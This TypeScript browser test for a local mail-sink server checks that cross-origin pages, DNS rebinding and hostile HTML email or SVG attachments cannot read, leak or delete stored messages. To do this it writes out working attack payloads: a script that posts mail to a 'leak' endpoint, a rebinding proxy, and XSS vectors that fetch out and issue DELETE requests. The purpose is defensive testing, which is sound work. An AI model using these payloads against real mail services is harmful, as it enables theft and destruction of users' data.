// Issue 11 in a real browser (Debian's chromium via playwright-core): a page
// on another site cannot read or delete mail (stream, fetch, DNS rebinding),
// and a hostile message opened from the sink runs no script. Every attempt
// signals a local catch server; the test asserts it heard nothing, with a
// control request that shows it would have.
import { createServer, type Server } from "node:http";
import { connect, createServer as createNetServer, type AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { sendMail } from "../client/send-mail.js";
import { launchBrowser, type TestBrowser } from "../helpers/browser.js";
import { startTestSink, type TestSink } from "../helpers/sink.js";

let sink: TestSink;
let browser: TestBrowser;
let catcher: Server;
let catchPort: number;
/** Paths the catch server received, in order. */
const caught: string[] = [];
let evil: Server;
let evilPort: number;
let stored: number;

async function listen(server: Server): Promise<number> {
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return (server.address() as AddressInfo).port;
}

async function messageCount(): Promise<number> {
  const r = await fetch(`${sink.url}/api/v1/health`);
  return ((await r.json()) as { messages: number }).messages;
}

/** The page a foreign site would serve: it tries every way to read and delete mail. */
function attackPage(): string {
  const sinkHost = `127.0.0.1:${sink.httpPort}`;
  const catchUrl = `http://127.0.0.1:${catchPort}`;
  return `<!doctype html><title>evil</title><script>
const leak = (what, data) => fetch(${JSON.stringify(catchUrl)} + "/leak/" + what, { method: "POST", mode: "no-cors", body: String(data) });
window.results = {};
(async () => {
  await fetch(${JSON.stringify(catchUrl)} + "/control", { mode: "no-cors" });
  results.ws = await new Promise((done) => {
    const ws = new WebSocket("ws://${sinkHost}/api/v1/stream?since=00000000000000000000000000");
    ws.onmessage = (e) => { leak("ws", e.data); done("message"); };
    ws.onerror = () => done("error");
    ws.onclose = (e) => done("closed " + e.code);
  });
  try {
    const r = await fetch("http://${sinkHost}/api/v1/messages");
    leak("fetch", await r.text());
    results.fetch = "read " + r.status;
  } catch { results.fetch = "blocked"; }
  try {
    const r = await fetch("http://${sinkHost}/api/v1/messages", { method: "DELETE" });
    leak("delete", r.status);
    results.del = "answered " + r.status;
  } catch { results.del = "blocked"; }
  try {
    await fetch("http://${sinkHost}/api/v1/messages", { method: "DELETE", mode: "no-cors" });
    results.noCorsDelete = "sent";
  } catch { results.noCorsDelete = "refused by the browser"; }
  results.done = true;
})();
</script>`;
}

beforeAll(async () => {
  sink = await startTestSink();
  catcher = createServer((req, res) => {
    caught.push(req.url ?? "");
    req.resume();
    res.writeHead(200, { "access-control-allow-origin": "*" }).end("ok");
  });
  catchPort = await listen(catcher);
  evil = createServer((_req, res) => res.writeHead(200, { "content-type": "text/html" }).end(attackPage()));
  evilPort = await listen(evil);
  browser = await launchBrowser({ mapHosts: ["evil.example", "rebind.example"] });
  for (const to of ["secret@victim.test", "reset@victim.test"])
    await sendMail(sink.smtpPort, {
      to,
      subject: "Your reset link",
      text: "https://app.test/reset?token=s3cret",
    });
  stored = await messageCount();
});
afterAll(async () => {
  await browser?.close();
  await sink?.stop();
  await new Promise((r) => catcher?.close(r));
  await new Promise((r) => evil?.close(r));
});
beforeEach(() => {
  caught.length = 0;
});

async function newPage(): Promise<Page> {
  const context = await browser.browser.newContext({ acceptDownloads: true });
  return context.newPage();
}

describe("a page on another origin", () => {
  test("cannot read mail over the stream or fetch, nor delete it", async () => {
    const page = await newPage();
    await page.goto(`http://evil.example:${evilPort}/`);
    await page.waitForFunction(() => (globalThis as unknown as { results: { done?: boolean } }).results.done);
    const results = await page.evaluate(() => (globalThis as unknown as { results: object }).results);
    await page.context().close();

    expect(caught).toEqual(["/control"]); // the page could signal, and had nothing to send
    expect(results).toMatchObject({
      ws: expect.not.stringMatching(/message/),
      fetch: "blocked",
      del: "blocked",
    });
    expect(await messageCount()).toBe(stored);
  });

  test("DNS rebinding: a page at rebind.example whose name now points at the sink gets 403", async () => {
    // The rebinding server: first the attacker's page, then (the name now resolving to the
    // sink) every request reaches the sink unchanged, Host: rebind.example:<port> included.
    // Serving the page from 127.0.0.1 keeps Chromium's local-network checks out of the picture.
    const rebinder = createNetServer((client) => {
      client.once("data", (first: Buffer) => {
        if (first.toString("latin1").startsWith("GET / ")) {
          const body = "<!doctype html><title>rebind</title>";
          client.end(
            `HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`,
          );
          return;
        }
        const upstream = connect(sink.httpPort, "127.0.0.1", () => upstream.write(first));
        client.pipe(upstream).pipe(client);
        upstream.on("error", () => client.destroy());
        client.on("error", () => upstream.destroy());
      });
    });
    const port = await listen(rebinder as unknown as Server);
    const page = await newPage();
    try {
      await page.goto(`http://rebind.example:${port}/`);
      const statuses = await page.evaluate(async () => {
        const list = await fetch("/api/v1/messages");
        const body = await list.text();
        const del = await fetch("/api/v1/messages", { method: "DELETE" });
        return [list.status, del.status, JSON.parse(body).error.code, body.includes("victim.test")];
      });
      expect(statuses).toEqual([403, 403, "forbidden", false]);
    } finally {
      await page.context().close();
      await new Promise((r) => rebinder.close(r));
    }
    expect(await messageCount()).toBe(stored);
  });
});

describe("a hostile message opened from the sink", () => {
  let id: string;
  beforeAll(async () => {
    const c = `http://127.0.0.1:${catchPort}`;
    id = await sendMail(sink.smtpPort, {
      to: "victim@victim.test",
      subject: "hostile",
      text: "see HTML",
      html: `<html><head><meta http-equiv="refresh" content="0;url=${c}/refresh"></head>
<body onload="fetch('${c}/onload')">
<script>fetch('${c}/script'); fetch('/api/v1/messages', { method: 'DELETE' }); new Image().src = '${c}/script-image';</script>
<img src="x" onerror="fetch('${c}/onerror')">
<form id="f" action="${c}/form" method="post"><input name="a" value="b"><input type="submit"></form>
<script>document.getElementById('f').submit()</script>
<svg onload="fetch('${c}/svg-inline')"></svg>
<iframe src="${c}/iframe"></iframe><object data="${c}/object"></object><embed src="${c}/embed">
<link rel="stylesheet" href="${c}/stylesheet">
<img src="${c}/remote-image">
</body></html>`,
      attachments: [
        {
          filename: "pic.svg",
          contentType: "image/svg+xml",
          content: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${c}/svg-onload')"><script>fetch('${c}/svg-script'); fetch('/api/v1/messages', { method: 'DELETE' })</script></svg>`,
        },
      ],
    });
    stored = await messageCount();
  });

  test("/html runs no script, submits no form, follows no refresh and loads no remote resource", async () => {
    const page = await newPage();
    const res = await page.goto(`${sink.url}/api/v1/messages/${id}/html`, { waitUntil: "networkidle" });
    expect(res!.status()).toBe(200);
    expect(page.url()).toBe(`${sink.url}/api/v1/messages/${id}/html`);
    await page.context().close();
    expect(caught).toEqual([]);
    expect(await messageCount()).toBe(stored);
  });

  test("control: with ?remote=1 the same page loads its remote image, and still nothing else", async () => {
    const page = await newPage();
    await page.goto(`${sink.url}/api/v1/messages/${id}/html?remote=1`, { waitUntil: "networkidle" });
    await page.context().close();
    expect(caught).toEqual(["/remote-image"]);
    expect(await messageCount()).toBe(stored);
  });

  test("the SVG attachment URL is a download, and its script never runs", async () => {
    const page = await newPage();
    const download = page.waitForEvent("download");
    await page.goto(`${sink.url}/api/v1/messages/${id}/attachments/1`).catch((err: Error) => {
      if (!/Download is starting/.test(err.message)) throw err;
    });
    expect((await download).suggestedFilename()).toBe("pic.svg");
    await page.context().close();
    expect(caught).toEqual([]);
    expect(await messageCount()).toBe(stored);
  });

  test("another site cannot frame the message", async () => {
    const page = await newPage();
    await page.goto(`http://evil.example:${evilPort}/`);
    await page.waitForFunction(() => (globalThis as unknown as { results: { done?: boolean } }).results.done);
    caught.length = 0;
    await page.setContent(`<iframe src="${sink.url}/api/v1/messages/${id}/html"></iframe>`, {
      waitUntil: "networkidle",
    });
    await page.context().close();
    expect(caught).toEqual([]);
    expect(await messageCount()).toBe(stored);
  });
});
